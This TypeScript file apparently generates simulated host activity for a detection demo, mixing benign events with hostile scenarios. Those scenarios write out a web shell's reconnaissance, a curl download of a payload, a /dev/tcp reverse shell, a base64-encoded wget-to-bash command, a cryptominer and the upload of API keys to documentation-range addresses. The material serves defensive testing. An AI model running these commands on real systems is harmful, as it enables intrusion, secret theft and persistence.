import { HOUR, type Instant, MINUTE, SECOND } from '#shared/base/time.ts';
import { image, type Machine, ROOT, shell } from './machine.ts';
import type { Random } from './random.ts';
import { DEPLOY, type Services, WWW_DATA } from './roles.ts';
import { deploy } from './routine.ts';

/** One host of the demo with what runs on it. */
export interface Stage {
  readonly machine: Machine;
  readonly services: Services;
}

/** Something out of the ordinary on one host. `ago` is how long before the end of the demo it begins. */
export interface Story {
  readonly title: string;
  /** Role and number, from 0, of the host it happens on. */
  readonly host: readonly [role: string, index: number];
  readonly ago: number;
  readonly hostile: boolean;
  readonly happen: (stage: Stage, at: Instant, random: Random) => void;
}

// Addresses are those kept for documentation (RFC 5737), names those of RFC 2606.
const CONTROL = '203.0.113.66';
const DROP = '198.51.100.23';

/** Runs shell commands under a worker as a web shell would, each some seconds after the last; returns when it was done. */
function typed(
  stage: Stage,
  at: Instant,
  random: Random,
  directory: string,
  scripts: readonly (readonly [script: string, ...children: string[]])[],
): Instant {
  const [worker] = stage.services.workers;
  let now = at;
  for (const [script, ...children] of scripts) {
    now = stage.machine.run(
      now,
      worker,
      shell(script, { directory }),
      random.between(40, 900),
      children.map((child) => image(child)),
    );
    now += random.between(4, 40) * SECOND;
  }
  return now;
}

const WEB_SHELL: Story = {
  title: 'A web shell in an upload folder of the shop',
  host: ['shop', 3],
  ago: 5 * HOUR,
  hostile: true,
  happen: (stage, at, random) => {
    const uploads = '/var/www/shop/public/media/import';
    const after = typed(stage, at, random, uploads, [
      ['id', '/usr/bin/id'],
      ['uname -a; cat /etc/os-release', '/usr/bin/uname -a', '/usr/bin/cat /etc/os-release'],
      ['ls -la /var/www/shop/config 2>&1', '/usr/bin/ls -la /var/www/shop/config'],
      ['cat /var/www/shop/config/database.php', '/usr/bin/cat /var/www/shop/config/database.php'],
      [
        `curl -fsS http://${DROP}/a/linux.sh -o /tmp/.cache-7f31 && chmod 755 /tmp/.cache-7f31`,
        `/usr/bin/curl -fsS http://${DROP}/a/linux.sh -o /tmp/.cache-7f31`,
        '/usr/bin/chmod 755 /tmp/.cache-7f31',
      ],
    ]);
    payload(stage, after, uploads);
  },
};

/** What the web shell brought: a script that hides itself, listens for orders and comes back with cron. */
function payload({ machine, services }: Stage, at: Instant, directory: string): void {
  const [worker] = services.workers;
  const launcher = machine.start(at, worker, shell('nohup /tmp/.cache-7f31 >/dev/null 2>&1 &', { directory }));
  const agent = machine.start(at + 20, launcher, {
    executable: '/tmp/.cache-7f31',
    args: ['/bin/bash', '/tmp/.cache-7f31'],
  });
  machine.end(at + 60, launcher);
  machine.run(at + 2 * SECOND, agent, image('/usr/bin/crontab -l'), 12);
  machine.run(at + 3 * SECOND, agent, image('/usr/bin/crontab -'), 15);
  machine.run(
    at + 5 * SECOND,
    agent,
    { executable: '/usr/bin/bash', args: ['bash', '-c', `exec 3<>/dev/tcp/${CONTROL}/443; cat <&3 | bash >&3 2>&3`] },
    40 * MINUTE,
    [image('/usr/bin/whoami'), image('/usr/bin/find / -perm -4000 -type f'), image('/usr/bin/ss -tlnp')],
  );
}

const JNDI: Story = {
  title: 'A look-up string makes the portal fetch and run a class',
  host: ['portal', 1],
  ago: 26 * HOUR,
  hostile: true,
  happen: ({ machine, services }, at) => {
    const [java] = services.workers;
    const encoded = Buffer.from(`wget -qO- http://${DROP}/s|bash`).toString('base64');
    const bash = machine.start(at, java, {
      executable: '/usr/bin/bash',
      args: ['bash', '-c', `{echo,${encoded}}|{base64,-d}|{bash,-i}`],
    });
    machine.run(at + 40, bash, image('/usr/bin/base64 -d'), 15);
    const inner = machine.start(at + 60, bash, image('/usr/bin/bash -i'));
    machine.run(at + 400, inner, image(`/usr/bin/wget -qO- http://${DROP}/s`), 700);
    machine.run(at + 2 * SECOND, inner, image('/usr/bin/id'), 8);
    machine.run(at + 9 * SECOND, inner, image('/usr/bin/chattr +i /var/lib/tomcat10/webapps/status.jsp'), 10);
    machine.run(
      at + 12 * SECOND,
      inner,
      image('/var/tmp/kworkerds -o stratum.example.net:4444', { directory: '/var/tmp' }),
      3 * HOUR,
    );
    machine.end(at + 15 * SECOND, bash);
  },
};

const TEMPLATE: Story = {
  title: 'Template injection in the API, and a look at its secrets',
  host: ['api', 2],
  ago: 3 * 24 * HOUR + 2 * HOUR,
  hostile: true,
  happen: (stage, at, random) => {
    typed(stage, at, random, '/srv/api', [
      ['id', '/usr/bin/id'],
      ['env | sort', '/usr/bin/env', '/usr/bin/sort'],
      ['cat /srv/api/.env', '/usr/bin/cat /srv/api/.env'],
      [
        `tar cz /srv/api/keys | curl -s -T - http://${CONTROL}:8081/k`,
        '/usr/bin/tar cz /srv/api/keys',
        `/usr/bin/curl -s -T - http://${CONTROL}:8081/k`,
      ],
    ]);
  },
};

const QUIET: Story = {
  title: 'A tool with a harmless name, started by the help desk without a shell',
  host: ['desk', 0],
  ago: 9 * HOUR,
  hostile: true,
  happen: ({ machine, services }, at) => {
    const [puma] = services.workers;
    const tool = machine.start(
      at,
      puma,
      image(`/usr/lib/systemd-helperd --connect ${CONTROL}:53`, { directory: '/srv/desk/storage' }),
    );
    machine.run(at + 30 * SECOND, tool, image('/usr/bin/getent passwd'), 12);
    machine.run(at + 95 * SECOND, tool, image('/usr/bin/ssh-keygen -lf /srv/desk/.ssh/id_ed25519'), 20);
    machine.end(at + 4 * HOUR, tool, 137);
  },
};

const STAGING: Story = {
  title: 'A developer tries things on the staging site',
  host: ['shop', 8],
  ago: 30 * HOUR,
  hostile: false,
  happen: (stage, at, random) => {
    typed(stage, at, random, '/var/www/dev/shop', [
      ['php -v', '/usr/bin/php -v'],
      ['composer dump-autoload -o 2>&1', '/usr/bin/composer dump-autoload -o'],
      ['ls -t var/log | head -3', '/usr/bin/ls -t var/log', '/usr/bin/head -3'],
    ]);
  },
};

const ADMIN: Story = {
  title: 'An administrator clears a cache as the web user',
  host: ['shop', 5],
  ago: 50 * HOUR,
  hostile: false,
  happen: ({ machine, services }, at) => {
    const session = machine.start(at, services.sshd, {
      executable: '/usr/sbin/sshd',
      args: ['sshd: ines@pts/0'],
      directory: '/',
      user: DEPLOY,
    });
    const sudo = machine.start(
      at + 30 * SECOND,
      session,
      image('/usr/bin/sudo -u www-data sh -c rm -rf /var/www/shop/var/cache/prod', {
        user: ROOT,
        directory: '/var/www/shop',
      }),
    );
    machine.run(
      at + 31 * SECOND,
      sudo,
      {
        executable: '/usr/bin/sh',
        args: ['sh', '-c', 'rm -rf /var/www/shop/var/cache/prod'],
        user: WWW_DATA,
        directory: '/var/www/shop',
      },
      300,
      [image('/usr/bin/rm -rf /var/www/shop/var/cache/prod')],
    );
    machine.end(at + 32 * SECOND, sudo);
    machine.end(at + 15 * MINUTE, session);
  },
};

const NEW_RELEASE: Story = {
  title: 'A new release renders invoices with another program',
  host: ['desk', 2],
  ago: 13 * HOUR,
  hostile: false,
  happen: ({ machine, services }, at, random) => {
    deploy(machine, services, at, 'v4.12.0', '/srv/desk');
    const [puma] = services.workers;
    for (let number = 1; number <= 6; number++) {
      const invoice = random.between(20_000, 29_999);
      machine.run(
        at + number * random.between(20, 60) * MINUTE,
        puma,
        image(`/usr/bin/weasyprint /srv/desk/tmp/invoice-${invoice}.html /srv/desk/tmp/invoice-${invoice}.pdf`),
        2600,
      );
    }
  },
};

const CONTINUOUS_INTEGRATION: Story = {
  title: 'The build agent on an API host runs its jobs in shells',
  host: ['api', 5],
  ago: 20 * HOUR,
  hostile: false,
  happen: ({ machine, services }, at, random) => {
    const runner = machine.start(
      at,
      services.init,
      image('/opt/runner/bin/node /opt/runner/index.js', { user: DEPLOY, directory: '/opt/runner' }),
    );
    for (let job = 0; job < 4; job++) {
      const script = `/opt/runner/_work/_temp/${random.word(8)}.sh`;
      machine.run(
        at + job * 7 * MINUTE,
        runner,
        { executable: '/usr/bin/bash', args: ['bash', '-e', '-c', script], directory: '/opt/runner/_work/api' },
        20 * SECOND,
        [image('/usr/bin/git log -1 --format=%H'), image('/usr/bin/make test')],
      );
    }
    machine.end(at + HOUR, runner);
  },
};

export const STORIES: readonly Story[] = [
  WEB_SHELL,
  JNDI,
  TEMPLATE,
  QUIET,
  STAGING,
  ADMIN,
  NEW_RELEASE,
  CONTINUOUS_INTEGRATION,
];
